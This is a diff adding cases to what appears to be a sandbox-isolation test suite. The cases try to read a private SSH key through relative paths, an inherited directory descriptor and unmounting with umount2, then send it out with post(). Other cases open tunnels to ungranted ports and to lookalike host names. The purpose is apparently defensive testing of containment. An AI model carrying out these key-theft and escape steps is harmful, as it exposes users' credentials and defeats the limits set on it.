@@ -234,3 +234,36 @@ if os.environ.get("OPENAI_API_KEY", "").startswith("SECRET"):
 ## sign: said
 if b"NEIGHBOUR_SECRET=SECRET" in open(f"/proc/{NEIGHBOUR}/environ", "rb").read():
     got()
+
+## secret-by-steps: a key by steps up from the folder of the command
+## sign: sent
+post(open("../" * 2 + ".ssh/id_ed25519").read())
+
+## secret-by-handed-folder: a key by a folder that was left open
+## sign: sent
+post(open(os.open(HOME.lstrip("/") + "/.ssh/id_ed25519", os.O_RDONLY, dir_fd=8)).read())
+
+## secret-below-cover: a key, once what covers it is gone
+## sign: sent
+for _ in range(8):
+    try:
+        words = open(f"{HOME}/.ssh/id_ed25519").read()
+    except OSError:
+        words = ""
+    if words:
+        post(words)
+        break
+    for place in [f"{HOME}/.ssh/id_ed25519", f"{HOME}/.ssh", HOME]:
+        libc.umount2(place.encode(), 2)
+
+## other-port-of-granted-host: a port of the granted host that nobody granted
+## sign: heard at granted.example:22
+tunnel("granted.example:22")
+
+## name-that-ends-alike: a name that ends like the granted one
+## sign: heard at notgranted.example
+tunnel("notgranted.example:80")
+
+## name-that-begins-alike: a name that begins like the granted one
+## sign: heard at granted.example.other.example
+tunnel("granted.example.other.example:80")
